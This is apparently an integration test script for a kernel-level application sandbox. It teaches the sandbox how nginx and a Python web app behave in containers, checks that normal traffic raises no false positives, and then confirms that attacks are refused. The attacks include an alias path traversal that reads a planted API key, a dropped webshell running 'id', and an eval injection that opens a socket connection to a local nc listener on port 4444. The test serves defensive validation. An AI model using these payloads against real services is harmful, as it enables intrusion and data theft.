#!/bin/sh
# Real services: Debian's nginx in front of a Python web app on sqlite (the
# interpreted service, Debian's python3), each in its own runc container
# (rootfs made of the packages' own files, tests/services/rootfs.sh), each
# learned with `mode learn --until-quiet --then protect` while curl drives
# them (static files, the proxied app, uploads whose bodies nginx buffers
# to files), then 10 replays in protect with other URLs, queries, bodies,
# a restart of both services inside their containers and their logs
# rotated (renamed, nginx told to reopen them): no false positive (no
# denial, no candidate).  Then the web stack's attacks, each
# refused with an audit record naming the operation, each with its control
# in mode off: a file outside nginx's root through a misconfigured alias
# (nginx), a dropped webshell and a reverse shell through the app's eval
# bug (the app).
# cgw-vm-timeout: 900
# cgw-vm-bins: /usr/sbin/runc /usr/bin/curl
# cgw-vm-env: CGW_SVC_OVERHEAD CGW_SVC_QUIET
# cgw-vm-prep: tests/services/rootfs.sh nginx python
# shellcheck source=../../integration/lib.sh
. "${CGW_DIR:-/cgw}/lib.sh"
# shellcheck source=../svc.sh
. "$CGW_DIR/svc.sh"

echo 10000 >/proc/sys/kernel/printk_ratelimit_burst
# the services' parent cgroups, and their containers' (which learn, and
# are decided, on their own)
ngt=/svc-nginx
pyt=/svc-python
ng=$ngt/ctr
py=$pyt/ctr
rn=/tmp/svc/nginx/rootfs
rp=/tmp/svc/python/rootfs
quiet=${CGW_SVC_QUIET:-30s}

tap_check "nginx bundle from Debian's files" svc_bundle nginx $ng
tap_check "python bundle from Debian's files" svc_bundle python $py
# nginx: static files, assets, and a key outside the root.
mkdir -p $rn/srv/www/html $rn/srv/www/assets $rn/srv/www/conf $rn/var/log/nginx \
	$rn/var/lib/nginx
cp "$CGW_DIR/nginx.conf" $rn/etc/nginx/nginx.conf
for p in 0 1 2 3 4; do
	echo "<html><body><h1>page $p</h1></body></html>" >$rn/srv/www/html/page$p.html
done
echo "<html><body>home</body></html>" >$rn/srv/www/html/index.html
echo "body { color: #333; }" >$rn/srv/www/assets/style.css
echo '<svg xmlns="http://www.w3.org/2000/svg"/>' >$rn/srv/www/assets/logo.svg
echo "API_KEY=s3cr3t-not-for-the-web" >$rn/srv/www/conf/app.key
cat >$rn/svc/run.sh <<'EOF'
while :; do
	nginx
	sleep 1
done
EOF
# the app: its code, its handler plugins, its database's directory.
mkdir -p $rp/srv/app/handlers $rp/srv/app/data
cp "$CGW_DIR/app.py" $rp/srv/app/app.py
cp "$CGW_DIR/hello.py" "$CGW_DIR/stats.py" $rp/srv/app/handlers/
cat >$rp/svc/run.sh <<'EOF'
cd /srv/app
while :; do
	python3 /srv/app/app.py 2>>/srv/app/data/app.log
	sleep 1
done
EOF

web() { curl -s -S --max-time 60 "$@"; }
ng_ready() { [ "$(web http://127.0.0.1:8080/page0.html)" = "<html><body><h1>page 0</h1></body></html>" ]; }
py_ready() { [ "$(web http://127.0.0.1:8000/h/hello)" = "hello world" ]; }

# check DESC GOT WANT: fail the workload (with a word) if GOT is not WANT
check() {
	[ "$2" = "$3" ] || { echo "$1: got '$2', want '$3'"; return 1; }
}

# work I: the clients' workload, parameters from I: pages and assets,
# items posted and searched, an upload (buffered to a file by nginx),
# handler plugins and the calculator, through nginx and directly
work() {
	_p=$(($1 % 5))
	check page "$(web http://127.0.0.1:8080/page$_p.html)" \
		"<html><body><h1>page $_p</h1></body></html>" || return 1
	check index "$(web http://127.0.0.1:8080/)" "<html><body>home</body></html>" || return 1
	check css "$(web http://127.0.0.1:8080/assets/style.css)" "body { color: #333; }" || return 1
	web -o /dev/null http://127.0.0.1:8080/assets/logo.svg || return 1
	check 404 "$(web -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/nope$1.html)" 404 || return 1
	printf 'item-%s-a\nitem-%s-b\nitem-%s-c\n' "$1" "$1" "$1" >/tmp/items
	check post "$(web --data-binary @/tmp/items http://127.0.0.1:8080/api/items)" 3 || return 1
	check search "$(web "http://127.0.0.1:8080/api/items?q=item-$1-")" \
		"[\"item-$1-a\", \"item-$1-b\", \"item-$1-c\"]" || return 1
	head -c $((4096 + 300 * $1)) /dev/urandom >/tmp/upload
	check upload "$(web --data-binary @/tmp/upload http://127.0.0.1:8080/api/upload)" \
		"$(sha256sum </tmp/upload | cut -d' ' -f1) $((4096 + 300 * $1))" || return 1
	check hello "$(web "http://127.0.0.1:8080/api/h/hello?name=n$1")" "hello n$1" || return 1
	web http://127.0.0.1:8080/api/h/stats | grep -q '^items=' || { echo stats; return 1; }
	check calc "$(web "http://127.0.0.1:8080/api/calc?expr=$1*7")" $(($1 * 7)) || return 1
	check direct "$(web "http://127.0.0.1:8000/items?q=item-$1-b")" "[\"item-$1-b\"]" || return 1
}

restart_both() {
	svc_restart nginx TERM ng_ready && svc_restart python TERM py_ready
}

# learn_round I: the workload; the second round restarts both first
learn_round() {
	if [ "$1" = 2 ]; then
		restart_both || return 1
	fi
	work "$1"
}

# rotate: the logs rotated as logrotate does from the host: each renamed
# (over the last rotation's), nginx told to reopen its logs (USR1: it
# makes them again and gives them to its workers' user), the app's log
# made again by its supervisor at the app's next start
rotate() {
	for f in $rn/var/log/nginx/access.log $rn/var/log/nginx/error.log \
		$rp/srv/app/data/app.log; do
		mv -f "$f" "$f.1" || return 1
	done
	kill -USR1 "$(svc_main nginx)" || return 1
	svc_wait 10 logged || { echo "nginx did not reopen its log"; return 1; }
}

# logged: a request, then nginx's access log is not empty
logged() {
	web -o /dev/null http://127.0.0.1:8080/ && test -s $rn/var/log/nginx/access.log
}

# replay I: the workload with other URLs and bodies; replays 1 and 6
# restart both services first, replays 4 and 9 rotate the logs (so the
# restart in replay 6 starts the app on a new log)
replay() {
	case $1 in 1 | 6) restart_both || return 1 ;; esac
	case $1 in 4 | 9) rotate || return 1 ;; esac
	work $(($1 + 40))
}

tap_check "insmod" cgw_load
for c in $ngt $pyt; do
	cgw_mkcg ${c#/} >/dev/null
	tap_check "learn $c until $quiet quiet, then protect" \
		cgwardenctl mode $c learn --until-quiet "$quiet" --then protect --startup 120s
done
tap_check "runc run -d python" svc_start python
tap_check "runc run -d nginx" svc_start nginx
tap_check "the app answers" svc_wait 60 py_ready
tap_check "nginx answers" svc_wait 60 ng_ready
# (not in tap_check's subshell: it sets svc_rounds_*)
if svc_learn_until_protect "$ng $py" 40 learn_round 2>/tmp/learn.err; then
	tap_ok "learning ends by itself while curl drives both"
else
	tap_fail "learning ends by itself while curl drives both" "$(cat /tmp/learn.err)"
fi
for c in $ng $py; do
	tap_note "$c learned in $(eval echo \$svc_rounds_$(svc_var $c)) rounds: $(cgw_cg_field $c entries) entries"
	tap_note "modes after learning: ${c%/ctr} $(cgw_cg_field ${c%/ctr} mode), $c $(cgw_cg_field $c mode)"
	tap_eq "${c%/ctr}, where nothing runs, ended its learning with $c" \
		"$(cgw_cg_field ${c%/ctr} mode)" protect
	# Learning that did not end by itself still gets its replays, in protect.
	[ "$(cgw_cg_field $c mode)" = protect ] || cgwardenctl mode ${c%/ctr} protect
done
svc_replays "$ng $py" 10 replay
for c in $ng $py; do
	tap_eq "$c: 10 replays in protect, other URLs and bodies, restarts: no false positive" \
		"$(svc_fp_replays $c)" 0
	svc_fp_show $(echo $c | cut -d- -f2 | cut -d/ -f1) $c
	tap_eq "$c: no denial" "$(svc_denials $c)" 0
	tap_eq "$c: no candidate" "$(svc_candidates $c | wc -l)" 0
done
tail -n 5 $rn/var/log/nginx/error.log | tap_diag

# --- learning 10 times longer than convergence: the model stays bounded ----
svc_bounded "$ng $py" replay

# --- what protect costs the web workload (make services-overhead) --------
svc_overhead "$ngt $pyt" 3 work

# --- attacks, in protect; then their controls in mode off ------------------
# (an attack on a service that is down proves nothing: not refused)
up() { ng_ready || echo "nginx is down"; py_ready || echo "the app is down"; }
# 1. nginx: a file outside its root through the misconfigured alias.
traverse() {
	web --path-as-is -w '%{http_code}' http://127.0.0.1:8080/assets../conf/app.key | tr '\n' ' '
}
svc_mark
got=$(traverse)
svc_attack $ng "nginx: /assets../conf/app.key through the alias: refused" refused \
	"$(up)$(case $got in *s3cr3t*) echo "served: $got" ;; *) echo refused ;; esac)"
tap_note "nginx answered: $(echo "$got" | tail -n 1)"
tap_some "... audit record op=open of /srv/www/conf/app.key" \
	"$(svc_denied_since $ng open 'path="/srv/www/conf/app.key"')"

# 2. the app: a webshell dropped among its handler plugins.
printf 'import os\nresult = os.popen("id").read()\n' >$rp/srv/app/handlers/shell.py
svc_mark
got=$(web http://127.0.0.1:8080/api/h/shell)
svc_attack $py "app: a dropped webshell (handlers/shell.py): refused" refused \
	"$(up)$(case $got in *uid=*) echo "ran: $got" ;; *) echo refused ;; esac)"
tap_note "the app answered: $got"
tap_some "... audit record op=open of /srv/app/handlers/shell.py" \
	"$(svc_denied_since $py open 'path="/srv/app/handlers/shell.py"')"

# 3. the app: a reverse shell to a new endpoint, through its eval bug.
# revshell: the connection the injected code makes to a listener on 4444;
# prints what the listener got
revshell() {
	rm -f /tmp/rev.out
	nc -l -p 4444 >/tmp/rev.out 2>/dev/null &
	_nc=$!
	sleep 0.5
	web -G --data-urlencode \
		'expr=__import__("socket").create_connection(("127.0.0.1", 4444)).send(b"shell")' \
		http://127.0.0.1:8080/api/calc >/tmp/rev.answer
	sleep 1
	kill $_nc 2>/dev/null
	wait $_nc 2>/dev/null
	cat /tmp/rev.out
}
svc_mark
got=$(revshell)
svc_attack $py "app: a reverse shell to 127.0.0.1:4444 (eval bug): refused" "" "$(up)$got"
tap_note "the app answered: $(cat /tmp/rev.answer)"
tap_some "... audit record op=connect to 127.0.0.1:4444" \
	"$(svc_denied_since $py connect 'daddr=127.0.0.1 dport=4444')"
tap_check "nginx and the app still serve" work 99

for c in $ngt $pyt; do tap_check "$c: mode off" cgwardenctl mode $c off; done
tap_eq "control: the alias serves the key" "$(traverse)" "API_KEY=s3cr3t-not-for-the-web 200"
tap_eq "control: the webshell runs" "$(web http://127.0.0.1:8080/api/h/shell | cut -d' ' -f1)" \
	"uid=0(root)"
tap_eq "control: the reverse shell connects" "$(revshell)" shell

svc_report nginx $ng $ng
svc_report python $py $py
svc_stop nginx
svc_stop python
cgw_rmcg ${ngt#/}
cgw_rmcg ${pyt#/}
tap_check "rmmod" cgw_unload
tap_done
